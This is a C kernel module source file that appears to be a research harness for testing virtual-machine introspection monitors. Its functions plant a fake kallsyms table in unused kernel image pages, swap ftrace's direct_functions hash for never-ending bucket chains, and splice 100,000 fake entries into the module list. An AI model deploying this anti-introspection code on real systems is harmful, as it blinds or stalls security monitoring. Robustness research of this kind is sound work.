// SPDX-License-Identifier: GPL-2.0-only
/*
 * What a monitor might read of the guest to know the kernel by: tables and lists in memory that anybody may write.
 * These change nothing for the guest itself, and always land; what they are to mislead is asked afterwards.
 */
#include <linux/delay.h>
#include <linux/ftrace.h>
#include <linux/list.h>
#include <linux/module.h>
#include <linux/mm.h>
#include <linux/slab.h>
#include <linux/vmalloc.h>

#include "attacks.h"

/* --- another kallsyms, in a gap of the image that is free ----------------------------- */

/* As scripts/kallsyms.c writes it from 6.4 on (kallsyms.h has the order), with tokens of one letter each. */
struct fake {
	u8 bytes[2048];
	unsigned int used;
};

static void put(struct fake *f, const void *bytes, unsigned int len)
{
	memcpy(f->bytes + f->used, bytes, len);
	f->used += len;
}

static void put_u32(struct fake *f, u32 value)
{
	put(f, &value, sizeof(value));
}

static void put_name(struct fake *f, const char *name)
{
	u8 len = strlen(name);

	put(f, &len, 1);
	put(f, name, len);
}

static void make_fake(struct fake *f, u8 *base, u8 *elsewhere)
{
	u64 relative_base = (unsigned long)base;
	u16 index[256];

	memset(f, 0, sizeof(*f));
	put_u32(f, 2); /* num_syms */
	put_u32(f, 0);
	put_name(f, "T_text");
	put_name(f, "Dsystem_state");
	f->used = ALIGN(f->used, 8);
	put_u32(f, 0); /* the one marker */
	put_u32(f, 0);
	for (unsigned int i = 0, at = 0; i < 256; i++) {
		u8 token[2] = { i };

		index[i] = at;
		put(f, token, i ? 2 : 1);
		at += i ? 2 : 1;
	}
	f->used = ALIGN(f->used, 8);
	put(f, index, sizeof(index));
	put_u32(f, -1); /* relative_base - 1 - offset: that very address */
	put_u32(f, -1 - (u32)(elsewhere - base));
	put(f, &relative_base, sizeof(relative_base));
}

/* A page of the gap that nobody has: what lies there stays until somebody does. */
static struct page *gap_page(u8 *from, u8 *to)
{
	struct page *page = rf_page(from), *end = rf_page(to - 1) + 1;

	for (; page < end; page++)
		if (!PageReserved(page) && !page_count(page))
			return page;
	return NULL;
}

/* mark_rodata_ro() frees what alignment leaves behind text and behind rodata (arch/x86/mm/init_64.c). */
static const struct {
	const char *from, *to;
} gaps[] = { { "_etext", "__start_rodata" }, { "__end_rodata", "_sdata" } };

void attack_fake_kallsyms(struct rf_report *r)
{
	u8 *text = rf_symbol("_text"), *from = NULL, *to;
	struct fake *fake = kmalloc(sizeof(*fake), GFP_KERNEL);
	struct page *page = NULL;

	for (unsigned int i = 0; fake && text && !page && i < ARRAY_SIZE(gaps); i++) {
		from = rf_symbol(gaps[i].from);
		to = rf_symbol(gaps[i].to);
		if (from && to && PTR_ALIGN(from, PAGE_SIZE) < to)
			page = gap_page(PTR_ALIGN(from, PAGE_SIZE), to);
		r->symbol = gaps[i].from;
	}
	if (!page) {
		rf_skip(r, "nothing free behind text and rodata");
	} else {
		/* To where no system_state is. */
		make_fake(fake, text, text + PAGE_SIZE);
		memcpy(page_address(page), fake->bytes, fake->used);
		r->at = text + PFN_PHYS(page_to_pfn(page) - page_to_pfn(rf_page(text)));
		r->offset = r->at - from;
		r->len = 64;
		rf_say(r, "bytes=%u", fake->used);
		ssleep(rf_patience);
		r->outcome = memcmp(page_address(page), fake->bytes, fake->used) ? RF_UNCHANGED : RF_LANDED;
	}
	kfree(fake);
}

/* --- direct functions: each bucket's chain ends, all of them together do not in our time ------ */

#define BITS 14
#define CHAIN 4095

/* kernel/trace/ftrace_internal.h, include/linux/ftrace.h: what they begin with. */
struct direct_hash {
	unsigned long size_bits;
	struct hlist_head *buckets;
	unsigned long count, flags;
	struct rcu_head rcu;
};

struct direct_entry {
	struct hlist_node node;
	unsigned long ip, direct;
};

static void traced(unsigned long ip, unsigned long parent, struct ftrace_ops *ops, struct ftrace_regs *regs)
{
}

static struct ftrace_ops ops = { .func = traced };

void attack_endless_direct_functions(struct rf_report *r)
{
	static struct direct_hash hash = { .size_bits = BITS };
	struct direct_hash **direct = (struct direct_hash **)rf_symbol("direct_functions");
	struct hlist_head *buckets = vzalloc(sizeof(*buckets) << BITS);
	struct direct_entry *entries = vzalloc(sizeof(*entries) * CHAIN);

	if (!direct || !buckets || !entries || !rf_aim(r, "direct_functions", 0, sizeof(*direct)))
		return rf_skip(r, "no direct functions");
	for (unsigned int i = 0; i < CHAIN; i++)
		entries[i] = (struct direct_entry){ { i + 1 < CHAIN ? &entries[i + 1].node : NULL }, 0,
						    (unsigned long)traced };
	for (unsigned int i = 0; i < 1u << BITS; i++)
		buckets[i].first = &entries[0].node;
	hash.buckets = buckets;
	/* Whoever keeps a table of what may be called looks at them while somebody traces. */
	if (ftrace_set_filter(&ops, "kernel_clone", strlen("kernel_clone"), 1) || register_ftrace_function(&ops))
		return rf_skip(r, "nothing can be traced");
	WRITE_ONCE(*direct, &hash);
	r->outcome = READ_ONCE(*direct) == &hash ? RF_LANDED : RF_UNCHANGED;
	ssleep(rf_patience);
}

/* --- modules: more than anybody reads to name where an address belongs ------------------------ */

#define MODULES 100000

/* Like struct module (include/linux/module.h) as far as who walks the list must look to pass it by. */
struct passed_by {
	enum module_state state;
	struct list_head list;
	unsigned long pad;
};
static_assert(offsetof(struct passed_by, list) == offsetof(struct module, list));

void attack_endless_modules(struct rf_report *r)
{
	struct list_head *modules = rf_symbol("modules");
	/* The last ones are read to the end of a struct module. */
	struct passed_by *fakes = vzalloc(sizeof(*fakes) * MODULES + sizeof(struct module));

	if (!modules || !fakes || !rf_aim(r, "modules", 0, sizeof(*modules)))
		return rf_skip(r, "no list of modules");
	for (unsigned int i = 0; i < MODULES; i++) {
		fakes[i].state = MODULE_STATE_UNFORMED;
		fakes[i].list.next = i + 1 < MODULES ? &fakes[i + 1].list : modules->next;
		fakes[i].list.prev = i ? &fakes[i - 1].list : modules;
	}
	modules->next->prev = &fakes[MODULES - 1].list;
	WRITE_ONCE(modules->next, &fakes[0].list);
	r->outcome = READ_ONCE(modules->next) == &fakes[0].list ? RF_LANDED : RF_UNCHANGED;
	ssleep(rf_patience);
}
